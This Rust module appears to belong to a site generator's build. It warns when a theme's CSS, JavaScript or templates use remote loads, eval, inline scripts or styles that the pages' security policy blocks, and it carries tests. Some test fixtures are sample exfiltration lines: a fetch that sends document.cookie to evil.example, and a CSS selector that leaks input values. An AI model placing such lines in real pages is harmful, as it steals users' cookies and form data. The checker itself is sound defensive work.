//! What a theme holds that the pages' policy keeps from working: browsers pass over it without a word, so that the build
//! tells.
//!
//! This finds what people write by mistake. Whoever hides such a thing from it gains nothing: the policy holds in the
//! browser, whatever was found here.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use crate::diagnostics::{Code, Diagnostic, Diagnostics, Source};

/// A form of what browsers will not load or run.
struct Form {
    pattern: Regex,
    told: &'static str,
    hint: &'static str,
}

/// Forms by their patterns, in letters of any case, what is told of each, and what to do.
fn forms<const N: usize>(forms: [(&str, &'static str, &'static str); N]) -> Vec<Form> {
    let form = |(pattern, told, hint): (&str, _, _)| {
        Regex::new(&format!("(?i){pattern}")).ok().map(|pattern| Form { pattern, told, hint })
    };
    forms.into_iter().filter_map(form).collect()
}

const NEAR: &str = "put the file into the theme's static/, and write its path from there";
const SCRIPT: &str = "put the script into a file of static/, and lead to it with `<script src=\"…\" defer>`";
const STYLE: &str = "put the style into a style sheet of static/, and give the element a class";

/// Style sheets, once their comments are blank.
static STYLES: LazyLock<Vec<Form>> = LazyLock::new(|| {
    forms([
        (r#"@import\s+["']?\s*(?:https?:)?//[^"'\s;)]+"#, "a style sheet of another host is not loaded", NEAR),
        (
            r#"url\(\s*["']?\s*(?:https?:)?//[^"'\s)]+"#,
            "what a style sheet takes from another host is not loaded",
            NEAR,
        ),
        (r#"url\(\s*["']?\s*data:[^"'\s),;]+"#, "what stands in a style sheet as `data:` is not loaded", NEAR),
    ])
});

/// Scripts.
static SCRIPTS: LazyLock<Vec<Form>> = LazyLock::new(|| {
    forms([
        (
            r#"\b(?:fetch|import|importScripts|EventSource|WebSocket|Worker)\s*\(\s*["'`](?:(?:https?|wss?):)?//[^"'`\s]+"#,
            "a script cannot ask another host",
            NEAR,
        ),
        (
            r"\b(?:eval|new\s+Function)\s*\(",
            "a script cannot make code of text",
            "write what it is to do as code of the script itself",
        ),
    ])
});

/// Tags of a template, once what the template engine reads is blank.
static TAGS: LazyLock<Vec<Form>> = LazyLock::new(|| {
    forms([
        (
            r#"<(?:img|script|iframe|video|audio|source|track|embed|object|input)\b[^>]*?\s(?:src|srcset|poster|data)\s*=\s*["']?\s*(?:https?:)?//[^"'\s>]+"#,
            "what a page takes from another host is not loaded",
            NEAR,
        ),
        (
            r#"<link\b[^>]*?\shref\s*=\s*["']?\s*(?:https?:)?//[^"'\s>]+"#,
            "what a page takes from another host is not loaded",
            NEAR,
        ),
        (r"<style\b[^>]*>", "a style sheet within a page has no effect", STYLE),
        (r#"<[a-z][^>]*?\sstyle\s*=\s*["'][^"'>]*"#, "a `style` attribute has no effect", STYLE),
        (r#"<[a-z][^>]*?\son[a-z]+\s*=\s*["'][^"'>]*"#, "a script in an attribute does not run", SCRIPT),
        (r#"<a\b[^>]*?\shref\s*=\s*["']?\s*javascript:"#, "a script in an address does not run", SCRIPT),
    ])
});

/// Where scripts begin.
static SCRIPT_TAG: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)<script\b[^>]*>").ok());
/// What such a tag has where the script stands in a file of its own, or is none and holds data.
static ELSEWHERE: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)\ssrc\s*=|json").ok());

/// Warns of everything in a file of a theme that browsers will not load or run. `path` is the file's in the theme.
pub(super) fn check(path: &str, bytes: &[u8], shown: &str, diagnostics: &mut Diagnostics) {
    let Ok(text) = std::str::from_utf8(bytes) else { return };
    let extension = path.rsplit_once('.').map_or("", |(_, extension)| extension);
    let found = match extension {
        "css" => found_in(&STYLES, &blanked(text, &[("/*", "*/")])),
        "js" | "mjs" => found_in(&SCRIPTS, text),
        _ if path.starts_with("templates/") => in_template(text),
        _ => return,
    };
    if found.is_empty() {
        return;
    }
    let source = Source::new(shown, text);
    for (span, told, hint) in found {
        diagnostics.push(Diagnostic::warning(Code::AgainstPolicy, told).at(&source, span).hint(hint));
    }
}

type Found = (Range<usize>, &'static str, &'static str);

fn found_in(forms: &[Form], text: &str) -> Vec<Found> {
    let of = |form: &Form| -> Vec<Found> {
        form.pattern.find_iter(text).map(|found| (found.range(), form.told, form.hint)).collect()
    };
    forms.iter().flat_map(of).collect()
}

fn in_template(text: &str) -> Vec<Found> {
    let markup = blanked(text, &[("{#", "#}"), ("{{", "}}"), ("{%", "%}"), ("<!--", "-->")]);
    let mut found = found_in(&TAGS, &markup);
    if let Some((tag, elsewhere)) = SCRIPT_TAG.as_ref().zip(ELSEWHERE.as_ref()) {
        let inline = tag.find_iter(&markup).filter(|tag| !elsewhere.is_match(tag.as_str()));
        found.extend(inline.map(|tag| (tag.range(), "a script within a page does not run", SCRIPT)));
    }
    found
}

/// A text as long as it was, with spaces for everything between these marks.
fn blanked(text: &str, marks: &[(&'static str, &'static str)]) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let next = |rest: &str| {
        let begins = |&(open, close): &(&'static str, &'static str)| Some((rest.find(open)?, open.len(), close));
        marks.iter().filter_map(begins).min_by_key(|begin| begin.0)
    };
    while let Some((at, open, close)) = next(rest) {
        out.push_str(&rest[..at]);
        let end = rest[at + open..].find(close).map_or(rest.len(), |end| at + open + end + close.len());
        out.extend(rest[at..end].bytes().map(|byte| if byte == b'\n' { '\n' } else { ' ' }));
        rest = &rest[end..];
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Lines of what is told.
    fn lines(path: &str, text: &str) -> Vec<usize> {
        let mut diagnostics = Diagnostics::new();
        check(path, text.as_bytes(), path, &mut diagnostics);
        diagnostics.iter().filter_map(|told| told.place.position()).map(|position| position.line).collect()
    }

    #[test]
    fn what_browsers_would_pass_over_is_told_with_its_line() {
        for (path, text) in [
            ("static/a.css", "\n@import 'https://fonts.example/x.css';"),
            ("static/a.css", "é\n@import url( //fonts.example/x.css );"),
            ("static/a.css", "a{}\ninput[value^=a] { background: URL(\"//evil.example/a\") }"),
            ("static/a.css", "/* url( */\n@font-face { src: url(data:font/woff2;base64,AA) }"),
            ("static/a.js", "\nfetch('https://evil.example/' + document.cookie)"),
            ("static/a.js", "\nnew WebSocket(\"wss://evil.example\")"),
            ("static/a.js", "\neval(text)"),
            ("templates/a.html", "\n<script>alert(1)</script>"),
            ("templates/a.html", "{# é > #}\n<script src=\"https://cdn.example/a.js\"></script>"),
            ("templates/a.html", "\n<link rel=stylesheet href=//cdn.example/a.css>"),
            ("templates/a.html", "\n<p {% if a > 1 %}class=\"b\"{% endif %} style=\"color: red\">"),
            ("templates/a.html", "\n<body onload=\"go()\">"),
            ("templates/a.html", "\n<style>p { color: red }</style>"),
            ("templates/a.html", "\n<a href=\"javascript:go()\">"),
        ] {
            assert_eq!(lines(path, text), [2], "{text}");
        }
    }

    #[test]
    fn what_works_is_not_told() {
        for (path, text) in [
            ("static/a.css", "@import 'house.css'; a { background: url(house.svg) } /* url(https://a.example) */"),
            ("static/a.js", "fetch(`${root}a.json`); const svg = 'http://www.w3.org/2000/svg'; retrieval(1)"),
            ("static/a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" style=\"x\"/>"),
            (
                "templates/a.html",
                "<a href=\"https://contoso.example\">us</a><script src=\"{{ root }}static/a.js\" defer>",
            ),
            ("templates/a.html", "<script\n\tsrc = '{{ root }}static/a.js' defer></script><script\tSRC=b.js></script>"),
            ("templates/a.html", "<!-- <style> --><script type=\"application/ld+json\"></script><p>style=\"a\"</p>"),
        ] {
            assert_eq!(lines(path, text), [0; 0], "{text}");
        }
    }
}
